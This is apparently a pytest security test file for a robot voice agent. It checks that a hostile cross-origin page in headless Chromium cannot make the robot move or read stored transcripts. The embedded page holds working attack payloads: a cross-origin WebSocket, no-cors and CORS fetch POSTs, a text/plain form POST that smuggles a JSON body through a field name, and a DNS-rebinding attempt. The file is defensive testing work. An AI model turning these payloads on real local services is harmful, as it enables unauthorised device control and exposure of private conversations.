"""A hostile web page in a real browser (Debian's headless Chromium) must not move the robot.

The page is served from another origin (a second loopback address and port) and tries what a
page can: a WebSocket to /realtime, a no-cors ``fetch`` POST with a text/plain body, a form
POST crafted to look like JSON, and reading /v1/messages. A DNS-rebinding name pointing at
the agent is tried too. Nothing may run or be stored; a normal voice-agent client still works.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess

import aiohttp
import pytest
from aiohttp import web

from helpers import agent_config, free_port, settle, wait_for
from traces import function_call_done, transcription, user_item
from ticos_agent import Agent

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")

MOTION = function_call_done("r_evil", "call_ws", "motion", {"motion_tag": "wave"})

PAGE = """<!doctype html><html><body><iframe name="sink"></iframe><script>
const agent = "http://127.0.0.1:%(port)d";
const report = (what, value) => fetch("/report", {method: "POST", body: JSON.stringify({what, value})});
const call = id => JSON.stringify(%(motion)s).replace("call_ws", id);
try {
  const ws = new WebSocket("ws://127.0.0.1:%(port)d/realtime");
  ws.onopen = () => { ws.send(call("call_ws")); report("ws", "open"); };
  ws.onerror = () => report("ws", "error");
} catch (e) { report("ws", "threw " + e); }
fetch(agent + "/v1/events", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
                             body: call("call_fetch")}).then(() => report("fetch", "sent"), e => report("fetch", "failed"));
fetch(agent + "/v1/events", {method: "POST", headers: {"Content-Type": "application/json"},
                             body: call("call_cors")}).then(() => report("cors", "sent"), e => report("cors", "failed"));
fetch(agent + "/v1/messages").then(r => r.text()).then(t => report("read", t), e => report("read", "blocked"));
const form = document.createElement("form");
form.method = "POST"; form.action = agent + "/v1/events"; form.enctype = "text/plain"; form.target = "sink";
const field = document.createElement("input");
const body = call("call_form");
field.name = body.slice(0, -1) + ', "pad": "'; field.value = '"}';
form.appendChild(field); document.body.appendChild(form); form.submit();
report("form", "submitted");
setTimeout(() => report("done", true), 1500);
</script></body></html>"""


def chromium(*args: str, user_dir: str, timeout: float) -> subprocess.Popen:
    return subprocess.Popen([CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                             "--disable-background-networking", "--disable-component-update", "--disable-sync",
                             f"--user-data-dir={user_dir}", *args],
                            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)


async def test_a_page_from_another_origin_moves_nothing_and_reads_nothing(tmp_path):
    agent = Agent(agent_config(tmp_path / "agent"))
    motions: list = []
    agent.on_motion(motions.append)
    await agent.start()
    reports: dict[str, object] = {}

    async def page(request: web.Request) -> web.Response:
        return web.Response(text=PAGE % {"port": agent.port, "motion": json.dumps(MOTION)}, content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        item = json.loads(await request.text())
        reports[item["what"]] = item["value"]
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_post("/report", report)
    runner = web.AppRunner(app)
    await runner.setup()
    page_port = free_port()
    await web.TCPSite(runner, "127.0.0.2", page_port).start()  # another origin: address and port
    browser = chromium(f"http://127.0.0.2:{page_port}/", user_dir=str(tmp_path / "chromium"), timeout=30)
    try:
        await wait_for(lambda: "done" in reports and "form" in reports, timeout=30)
        await asyncio.sleep(0.5)
    finally:
        browser.kill()
        browser.wait()
        await runner.cleanup()
    try:
        # the page really ran and really tried
        assert reports["form"] == "submitted" and reports["ws"] == "error"
        assert reports["read"] == "blocked"
        await settle(agent)
        assert motions == []
        assert await agent.store.calls(limit=20) == []
        assert await agent.store.messages(limit=20) == []
        refused = agent.health()["counters"]["refused_requests"]
        assert refused >= 4, agent.health()["counters"]  # ws, fetch no-cors, cors preflight or post, form, read
        # a voice agent is still served
        async with aiohttp.ClientSession() as http:
            async with http.ws_connect(f"http://127.0.0.1:{agent.port}/realtime") as ws:
                await ws.send_json(user_item("u1"))
                await ws.send_json(transcription("u1", "hello robot"))
                await ws.send_json(MOTION)
        await wait_for(lambda: motions, timeout=5)
        await settle(agent)
        assert [m["content"] for m in await agent.store.messages(limit=5)] == ["hello robot"]
    finally:
        await agent.stop()


async def test_a_rebinding_name_gets_no_transcript(tmp_path):
    agent = Agent(agent_config(tmp_path / "agent"))
    await agent.start()
    try:
        async with aiohttp.ClientSession() as http:
            async with http.ws_connect(f"http://127.0.0.1:{agent.port}/realtime") as ws:
                await ws.send_json(user_item("u1"))
                await ws.send_json(transcription("u1", "my secret plans"))
        await settle(agent)
        url = f"http://rebind.test:{agent.port}/v1/messages"
        browser = chromium("--host-resolver-rules=MAP rebind.test 127.0.0.1", "--dump-dom", url,
                           user_dir=str(tmp_path / "chromium"), timeout=30)
        out, _ = await asyncio.to_thread(browser.communicate, timeout=60)
        assert "bad_host" in out and "secret" not in out
        assert agent.health()["counters"]["refused_requests"] >= 1
    finally:
        await agent.stop()
